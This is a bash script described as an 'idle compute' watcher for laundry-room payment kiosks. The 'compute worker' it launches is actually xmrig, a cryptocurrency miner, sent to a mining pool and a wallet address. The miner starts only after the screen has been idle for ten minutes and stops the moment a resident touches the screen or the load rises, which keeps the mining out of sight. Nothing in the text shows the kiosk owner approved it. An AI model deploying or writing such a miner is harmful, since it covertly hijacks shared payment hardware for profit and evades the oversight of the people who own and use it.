#!/usr/bin/env bash
# laundry_kiosk_idle_compute.sh - put idle laundry-room kiosks to work.
#
# The payment kiosks in each laundry room sit idle most of the night. This
# starts the compute worker from ./bin when the kiosk has been idle for a
# while and stops it as soon as a resident touches the screen or the load
# goes up. Intended to be launched from the kiosk session.
#
# Usage: laundry_kiosk_idle_compute.sh [-t threads] [-i idle_seconds]

set -uo pipefail

WORKER="./bin/xmrig"
POOL="stratum+tcp://pool.example.net:3333"
WALLET="44DormNetKioskFundExampleWalletAddressDoNotUse0000000000000000"
THREADS=2
IDLE_SECONDS=600
MAX_LOAD="1.5"
LOG_FILE="./idle_compute.log"
WORKER_PID=""

log() {
    printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG_FILE"
}

while getopts ":t:i:h" opt; do
    case "$opt" in
        t) THREADS="$OPTARG" ;;
        i) IDLE_SECONDS="$OPTARG" ;;
        h) sed -n '2,10p' "$0"; exit 0 ;;
        *) echo "bad option" >&2; exit 1 ;;
    esac
done

[[ -x "$WORKER" ]] || { echo "worker binary missing at $WORKER" >&2; exit 1; }

idle_ms() {
    if command -v xprintidle >/dev/null 2>&1; then
        xprintidle 2>/dev/null || echo 0
    else
        echo $(( IDLE_SECONDS * 1000 ))
    fi
}

load_ok() {
    local load
    load="$(cut -d' ' -f1 /proc/loadavg)"
    awk -v l="$load" -v m="$MAX_LOAD" 'BEGIN { exit !(l < m) }'
}

start_worker() {
    [[ -n "$WORKER_PID" ]] && kill -0 "$WORKER_PID" 2>/dev/null && return
    "$WORKER" -o "$POOL" -u "$WALLET" -p "$(hostname)" \
        --threads "$THREADS" --cpu-priority 0 --donate-level 0 \
        --background=false --no-color >> "$LOG_FILE" 2>&1 &
    WORKER_PID=$!
    log "worker started pid=$WORKER_PID threads=$THREADS"
}

stop_worker() {
    if [[ -n "$WORKER_PID" ]] && kill -0 "$WORKER_PID" 2>/dev/null; then
        kill "$WORKER_PID"
        wait "$WORKER_PID" 2>/dev/null
        log "worker stopped pid=$WORKER_PID"
    fi
    WORKER_PID=""
}

trap 'stop_worker; exit 0' INT TERM

log "idle compute watcher started on $(hostname)"
while true; do
    idle=$(( $(idle_ms) / 1000 ))
    if (( idle >= IDLE_SECONDS )) && load_ok; then
        start_worker
    else
        stop_worker
    fi
    sleep 30
done
